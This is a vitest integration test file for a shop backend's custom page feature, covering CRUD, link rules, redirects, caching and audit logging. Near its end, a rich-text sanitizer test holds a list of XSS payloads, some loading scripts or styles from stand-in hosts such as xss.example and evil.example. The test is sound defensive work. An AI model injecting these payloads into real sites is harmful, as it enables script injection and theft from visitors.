import { describe, expect, it } from "vitest";
import type { PayloadInput } from "../../contract/actions";
import { MODULE_IDS } from "../../contract/modules";
import { sanitizeRichText } from "../../backend/rich-text";
import { RICH_TEXT_TAGS } from "../../contract/rich-text";
import { DEMO_CUSTOM_PAGES } from "../../scripts/demo-data";
import { createCustomPage, createStore } from "../../tests/helpers/factories";
import {
  clientOver,
  db,
  expectFailure,
  logOf,
  merchant,
  TRANSPORT_NAMES,
  type TransportName,
} from "../../tests/integration/wire";

const unique = () => crypto.randomUUID().slice(0, 8);

type PageInput = Omit<PayloadInput<"add_custom_page_data">, "application_key">;

const newPage = (overrides: Partial<PageInput> = {}) => ({
  title_zh_hk: "關於我們",
  title_en: `About ${unique()}`,
  link: `about-${unique()}`,
  seo_title: "About our shop",
  seo_keywords: "tea, Hong Kong",
  seo_description: "Since 1998.",
  publish: true,
  content: "<h2>Our story</h2><p>Since <strong>1998</strong>.</p>",
  ...overrides,
});

const list = { sorting: "create_date", direction: "DESC", limit: 20, page: 1 } as const;

/** The store website: no session, answered from the public cache. */
const storeSite = (transport: TransportName) => clientOver(transport);

describe.each(TRANSPORT_NAMES)("custom page actions over the %s transport", (transport) => {
  it("adds, reads, lists, edits and deletes a page, logging every write without its HTML", async () => {
    const { store, client, key } = await merchant(transport);
    const input = newPage();
    const { data: added } = await client.add_custom_page_data({ ...key, ...input });

    const { data } = await client.get_custom_page_data_by_application_key_and_id({ ...key, id: added.id });
    expect(data).toMatchObject({ ...input, id: added.id, version: 1, old_links: [] });

    await client.update_custom_page_data_by_application_key_and_id({
      ...key,
      ...input,
      seo_title: null,
      content: "<p>Since 1999.</p>",
      id: added.id,
      version: 1,
    });
    const { data: edited } = await client.get_custom_page_data_by_application_key_and_id({ ...key, id: added.id });
    expect(edited).toMatchObject({ seo_title: null, content: "<p>Since 1999.</p>", version: 2 });
    expect(edited.update_date > data.update_date).toBe(true);

    const { data: rows, extra } = await client.get_custom_page_data_and_total_number_by_sorting_and_limit({
      ...key,
      ...list,
      keyword: String(input.title_en).slice(-8),
    });
    expect(rows.map((row) => [row.id, "content" in row])).toEqual([[added.id, false]]);
    expect(extra.total_number).toBe(1);

    await client.delete_custom_page_data_by_application_key_and_id({ ...key, id: added.id });
    await expectFailure(
      client.get_custom_page_data_by_application_key_and_id({ ...key, id: added.id }),
      404,
      "not-found",
    );

    const log = await logOf(store.applicationKey);
    expect(log.map((entry) => [entry.action, entry.data_type, entry.record_id, entry.record_name_en])).toEqual([
      ["add", "custom_page_data", String(added.id), input.title_en],
      ["edit", "custom_page_data", String(added.id), input.title_en],
      ["delete", "custom_page_data", String(added.id), input.title_en],
    ]);
    const [before, after] = log[1].changes.content as [string, string];
    expect([before, after].every((value) => /^[0-9a-f]{8}$/.test(value)) && before !== after).toBe(true);
    expect(log[1].changes.seo_title).toEqual(["About our shop", null]);
  });

  it("lists by status, search and sort, one page at a time", async () => {
    const { store, client, key } = await merchant(transport);
    const [banana, apple, cherry] = await Promise.all([
      createCustomPage(db(), store.applicationKey, { titleZhHk: "Banana", link: "banana", publish: true }),
      createCustomPage(db(), store.applicationKey, { titleZhHk: "apple", link: "apple-terms", publish: false }),
      createCustomPage(db(), store.applicationKey, { titleZhHk: "Cherry", link: "cherry", publish: true }),
    ]);
    const ids = async (
      payload: Partial<PayloadInput<"get_custom_page_data_and_total_number_by_sorting_and_limit">>,
    ) => {
      const { data, extra } = await client.get_custom_page_data_and_total_number_by_sorting_and_limit({
        ...key,
        ...list,
        ...payload,
      });
      return [data.map((row) => row.id), extra.total_number];
    };
    expect(await ids({ sorting: "title", direction: "ASC" })).toEqual([[apple.id, banana.id, cherry.id], 3]);
    expect(await ids({ status: "published", sorting: "title", direction: "DESC" })).toEqual([
      [cherry.id, banana.id],
      2,
    ]);
    expect(await ids({ status: "draft" })).toEqual([[apple.id], 1]);
    expect(await ids({ keyword: "TERMS" })).toEqual([[apple.id], 1]);
    expect(await ids({ sorting: "title", direction: "ASC", limit: 2, page: 2 })).toEqual([[cherry.id], 3]);
  });

  it("checks the link rule and keeps each link to one page of the store", async () => {
    const { client, key } = await merchant(transport);
    const other = await merchant(transport);
    const refused = await expectFailure(
      client.add_custom_page_data({ ...key, ...newPage({ link: "-about us" }) }),
      400,
      "invalid-payload",
    );
    expect(refused.fields).toEqual({ link: ["custom-page-link-invalid"] });

    const first = newPage();
    await client.add_custom_page_data({ ...key, ...first });
    const taken = await expectFailure(
      client.add_custom_page_data({ ...key, ...newPage({ link: first.link }) }),
      409,
      "custom-page-link-used",
    );
    expect(taken.fields).toEqual({ link: ["custom-page-link-used"] });
    // Another store's link is its own business.
    await other.client.add_custom_page_data({ ...other.key, ...newPage({ link: first.link }) });

    const { data: second } = await client.add_custom_page_data({ ...key, ...newPage() });
    await expectFailure(
      client.update_custom_page_data_by_application_key_and_id({
        ...key,
        ...newPage({ link: first.link }),
        id: second.id,
        version: 1,
      }),
      409,
      "custom-page-link-used",
    );
  });

  it("refuses an edit over a version someone else saved since (409), keeping theirs and its one log entry", async () => {
    const { store, client, key } = await merchant(transport);
    const page = await createCustomPage(db(), store.applicationKey);
    const id = { ...key, id: page.id };
    const theirs = newPage({ title_en: "Theirs" });
    await client.update_custom_page_data_by_application_key_and_id({ ...id, ...theirs, version: 1 });
    await expectFailure(
      client.update_custom_page_data_by_application_key_and_id({ ...id, ...newPage(), version: 1 }),
      409,
      "edited-elsewhere",
    );
    const { data } = await client.get_custom_page_data_by_application_key_and_id(id);
    expect(data).toMatchObject({ title_en: "Theirs", link: theirs.link, version: 2 });
    expect((await logOf(store.applicationKey)).length).toBe(1);
  });

  it("answers the store website a published page by its link, and 404 for a draft or an unknown link", async () => {
    const { client, key } = await merchant(transport);
    const site = storeSite(transport);
    const input = newPage({ share_image_url: null });
    const { data: added } = await client.add_custom_page_data({ ...key, ...input });
    const { data: shown } = await site.get_custom_page_data_by_application_key_and_link({ ...key, link: input.link });
    expect(shown).toEqual({
      id: added.id,
      title_zh_hk: input.title_zh_hk,
      title_en: input.title_en,
      link: input.link,
      seo_title: input.seo_title,
      seo_keywords: input.seo_keywords,
      seo_description: input.seo_description,
      share_image_url: null,
      content: input.content,
      update_date: expect.any(String),
    });

    const draft = newPage({ publish: false });
    await client.add_custom_page_data({ ...key, ...draft });
    await expectFailure(
      site.get_custom_page_data_by_application_key_and_link({ ...key, link: draft.link }),
      404,
      "custom-page-not-found",
    );
    await expectFailure(
      site.get_custom_page_data_by_application_key_and_link({ ...key, link: "no-such-page" }),
      404,
      "custom-page-not-found",
    );
  });
});

describe("the store website's custom page read", () => {
  it("follows a published page's old links to its new one, forgetting its cached answers on every save", async () => {
    const { client, key } = await merchant("embedded");
    const site = storeSite("embedded");
    const read = (link: string) => site.get_custom_page_data_by_application_key_and_link({ ...key, link });
    const input = newPage({ link: "about", content: "<p>One</p>" });
    const { data: added } = await client.add_custom_page_data({ ...key, ...input });
    const id = { ...key, id: added.id };
    expect((await read("about")).data).toMatchObject({ content: "<p>One</p>" });

    // Cached, and forgotten by the edit: the very next read shows it.
    await client.update_custom_page_data_by_application_key_and_id({
      ...id,
      ...input,
      content: "<p>Two</p>",
      version: 1,
    });
    expect((await read("about")).data).toMatchObject({ content: "<p>Two</p>" });

    await client.update_custom_page_data_by_application_key_and_id({ ...id, ...input, link: "about-us", version: 2 });
    expect((await read("about")).data).toEqual({ redirect_to: "about-us" });
    expect((await read("about-us")).data).toMatchObject({ id: added.id, link: "about-us" });

    // Moved again: every old link leads to the newest one, without a chain.
    await client.update_custom_page_data_by_application_key_and_id({ ...id, ...input, link: "our-story", version: 3 });
    expect([(await read("about")).data, (await read("about-us")).data]).toEqual([
      { redirect_to: "our-story" },
      { redirect_to: "our-story" },
    ]);
    const { data: detail } = await client.get_custom_page_data_by_application_key_and_id(id);
    expect(detail.old_links).toEqual(["about", "about-us"]);

    // A new page may take an old link: the live page wins and the redirect goes.
    const { data: newcomer } = await client.add_custom_page_data({ ...key, ...newPage({ link: "about" }) });
    expect((await read("about")).data).toMatchObject({ id: newcomer.id });
    expect((await client.get_custom_page_data_by_application_key_and_id(id)).data.old_links).toEqual(["about-us"]);

    // An unpublished page answers for none of its links.
    await client.update_custom_page_data_by_application_key_and_id({
      ...id,
      ...input,
      link: "our-story",
      publish: false,
      version: 4,
    });
    await expectFailure(read("about-us"), 404, "custom-page-not-found");
    await expectFailure(read("our-story"), 404, "custom-page-not-found");

    // A draft's link was never shown: moving it keeps nothing.
    await client.update_custom_page_data_by_application_key_and_id({
      ...id,
      ...input,
      link: "story",
      publish: false,
      version: 5,
    });
    expect((await client.get_custom_page_data_by_application_key_and_id(id)).data.old_links).toEqual(["about-us"]);

    await client.update_custom_page_data_by_application_key_and_id({ ...id, ...input, link: "story", version: 6 });
    expect((await read("about-us")).data).toEqual({ redirect_to: "story" });
    await client.delete_custom_page_data_by_application_key_and_id(id);
    await expectFailure(read("about-us"), 404, "custom-page-not-found");
    await expectFailure(read("story"), 404, "custom-page-not-found");
  });

  it("answers nothing of a disabled store or one whose plan has no layout module", async () => {
    const site = storeSite("embedded");
    const disabled = await createStore(db(), { disabled: true });
    const noLayout = await createStore(db(), { modules: MODULE_IDS.filter((module) => module !== "layout") });
    for (const [store, message] of [
      [disabled, "store-account-not-found-or-disabled"],
      [noLayout, "module-not-in-plan"],
    ] as const) {
      const page = await createCustomPage(db(), store.applicationKey, { publish: true });
      await expectFailure(
        site.get_custom_page_data_by_application_key_and_link({
          application_key: store.applicationKey,
          link: page.link,
        }),
        404,
        message,
      );
    }
    await expectFailure(
      site.get_custom_page_data_by_application_key_and_link({ application_key: "no-such-store", link: "about" }),
      404,
      "store-account-not-found-or-disabled",
    );
  });
});

const ALLOWED = RICH_TEXT_TAGS as Record<string, readonly string[]>;
const TAG = /<(\/?)([a-zA-Z][a-zA-Z0-9]*)((?:\s+[a-z]+="[^"<>]*")*)\s*\/?>/g;
const ATTRIBUTE = /([a-z]+)="([^"]*)"/g;

/** What in saved HTML is not of the safe subset: every tag and attribute is looked at. */
function unsafeMarkupIn(html: string, applicationKey: string): string[] {
  const found: string[] = [];
  const tags = [...html.matchAll(TAG)];
  if (tags.length !== (html.match(/</g) ?? []).length) found.push(`a "<" outside a tag: ${html}`);
  for (const [tag, , name, attributes] of tags) {
    const allowed = ALLOWED[name];
    if (!allowed) found.push(tag);
    for (const [, attribute, value] of attributes.matchAll(ATTRIBUTE)) {
      const ok =
        allowed?.includes(attribute) &&
        (attribute !== "href" || /^(https?:\/\/|mailto:|tel:|\/[^/]|#)/.test(value)) &&
        (attribute !== "src" || value.startsWith(`/uploads/${applicationKey}/`) || value.startsWith("https://")) &&
        !/javascript:|vbscript:|data:|expression\(/i.test(value);
      if (!ok) found.push(`${attribute}="${value}" in ${tag}`);
    }
  }
  return found;
}

/** OWASP's XSS filter evasion cheat sheet, and mutation and nesting tricks. */
const XSS_PAYLOADS = [
  `<script>alert(1)</script>`,
  `<SCRIPT SRC=https://xss.example/xss.js></SCRIPT>`,
  `<scr<script>ipt>alert(1)</scr</script>ipt>`,
  `<script>unclosed`,
  `<img src=x onerror=alert(1)>`,
  `<IMG SRC="javascript:alert('XSS');">`,
  `<IMG SRC=JaVaScRiPt:alert('XSS')>`,
  `<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>`,
  `<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>`,
  `<IMG SRC="jav&#x09;ascript:alert('XSS');">`,
  `<IMG SRC=" &#14;  javascript:alert('XSS');">`,
  `<img src="/uploads/another-store/0000.png" onload="alert(1)">`,
  `<img """><SCRIPT>alert("XSS")</SCRIPT>"\\>`,
  `<a href="javascript:alert(1)">click</a>`,
  `<a href="JAVASCRIPT:alert(1)">click</a>`,
  `<a href="  javascript:alert(1)">click</a>`,
  `<a href="java\nscript:alert(1)">click</a>`,
  `<a href="&#x6A;avascript:alert(1)">click</a>`,
  `<a href="vbscript:msgbox(1)">click</a>`,
  `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>`,
  `<a href="DaTa:text/html,<script>alert(1)</script>">click</a>`,
  `<a href="//evil.example/">protocol-relative</a>`,
  `<a href="https://ok.example/" onclick="alert(1)" onmouseover=alert(1) style="x:expression(alert(1))">ok</a>`,
  `<svg onload=alert(1)>`,
  `<svg><script>alert(1)</script></svg>`,
  `<svg/onload=alert(1)//`,
  `<iframe src="https://evil.example/"></iframe>`,
  `<iframe src="javascript:alert(1)">`,
  `<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
  `<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">`,
  `<p style="background:url(javascript:alert(1))">x</p>`,
  `<div style="width: expression(alert('XSS'));">x</div>`,
  `<style>@import 'https://evil.example/xss.css';</style>`,
  `<link rel="stylesheet" href="https://evil.example/xss.css">`,
  `<meta http-equiv="refresh" content="0;url=javascript:alert(1);">`,
  `<base href="javascript:alert(1)//">`,
  `<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`,
  `<math href="javascript:alert(1)">click</math>`,
  `<form action="javascript:alert(1)"><button>go</button></form>`,
  `<form><button formaction="javascript:alert(1)">go</button></form>`,
  `<input onfocus=alert(1) autofocus>`,
  `<details open ontoggle=alert(1)>`,
  `<body onload=alert(1)>`,
  `<table background="javascript:alert(1)"><td onclick=alert(1)>x</td></table>`,
  `<p title="</p><img src=x onerror=alert(1)>">x</p>`,
  `<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>`,
  `<template><img src=x onerror=alert(1)></template>`,
  `<!--<img src=x onerror=alert(1)>-->`,
  `<![CDATA[<img src=x onerror=alert(1)>]]>`,
  `<xmp><img src=x onerror=alert(1)></xmp>`,
  `<a href="https://ok.example/">x<a href="javascript:alert(1)">y</a></a>`,
  `<<SCRIPT>alert("XSS");//\\<</SCRIPT>`,
  `<IMG SRC="javascript:alert('XSS')"`,
  `<h1 onclick=alert(1)>big</h1>`,
];

describe("the rich text sanitizer", () => {
  it("keeps none of the known XSS payloads, whatever the form sent", async () => {
    const { store, client, key } = await merchant("embedded");
    const { data: page } = await client.add_custom_page_data({
      ...key,
      ...newPage({ content: XSS_PAYLOADS.join("\n") }),
    });
    const { data } = await client.get_custom_page_data_by_application_key_and_id({ ...key, id: page.id });
    expect(unsafeMarkupIn(data.content, store.applicationKey)).toEqual([]);
    // Each alone too, as the save runs it (in the Workers runtime).
    for (const payload of XSS_PAYLOADS) {
      const unsafe = unsafeMarkupIn(sanitizeRichText(payload, store.applicationKey), store.applicationKey);
      expect({ payload, unsafe }).toEqual({ payload, unsafe: [] });
    }
  });

  it("keeps the safe subset as the editor writes it", async () => {
    const { store, client, key } = await merchant("embedded");
    const image = `/uploads/${store.applicationKey}/${"a".repeat(64)}.png`;
    const content = [
      `<h2>Delivery</h2><h3>Areas</h3><h4>Islands</h4>`,
      `<p><strong>Bold</strong> <b>b</b> <em>it</em> <i>i</i> <u>under</u> <s>gone</s><br>next</p>`,
      `<ul><li><p>One</p></li></ul><ol><li><p>Two</p></li></ol><blockquote><p>Quote</p></blockquote><hr>`,
      `<p><a href="https://shop.example/sale" target="_blank" rel="noopener noreferrer nofollow">sale</a> `,
      `<a href="/about">about</a> <a href="mailto:hi@shop.example">mail</a> <a href="tel:23456789">call</a></p>`,
      `<img src="${image}" alt="Our shop"><img src="https://cdn.example/a.png" alt="">`,
      `<table><tbody><tr><th colspan="1" rowspan="1"><p>Area</p></th><td colspan="2" rowspan="1"><p>Fee</p></td></tr></tbody></table>`,
    ].join("");
    const { data: page } = await client.add_custom_page_data({ ...key, ...newPage({ content }) });
    const { data } = await client.get_custom_page_data_by_application_key_and_id({ ...key, id: page.id });
    expect(data.content).toBe(content);
    // The demo pages, seeded straight into the database, are of the subset too.
    for (const demo of DEMO_CUSTOM_PAGES) expect(sanitizeRichText(demo.content, "demo-shop")).toBe(demo.content);
  });
});
